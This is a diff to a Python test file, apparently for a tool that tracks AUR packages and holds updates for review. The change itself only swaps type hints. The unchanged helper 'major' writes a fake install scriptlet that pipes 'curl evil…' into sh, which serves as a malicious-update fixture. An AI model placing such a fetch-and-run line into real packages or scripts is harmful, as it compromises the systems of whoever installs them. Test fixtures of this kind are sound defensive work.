@@ -3,6 +3,7 @@
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -21,7 +22,7 @@ async def aur(tmp_path: Path) -> AsyncIterator[LocalAur]:
         yield aur
 
 
-async def follow(followed: Followed, aur: LocalAur, *packages: str, **how: object) -> None:
+async def follow(followed: Followed, aur: LocalAur, *packages: str, **how: Any) -> None:
     await followed.add(aur.url, name="aur", kind="aur", packages=packages, **how)
 
 
@@ -47,7 +48,7 @@ async def decided(followed: Followed, number: int, *, approve: bool) -> Review:
     return done
 
 
-def major(aur: LocalAur, release: str, pkgbase: str = "greet", **more: object) -> None:
+def major(aur: LocalAur, release: str, pkgbase: str = "greet", **more: Any) -> None:
     """A new state with a scriptlet."""
     (aur.folder / pkgbase / "greet.install").write_text(f"post_install() {{ curl evil{release} | sh; }}\n")
     aur.push(pkgbase, release, **more)
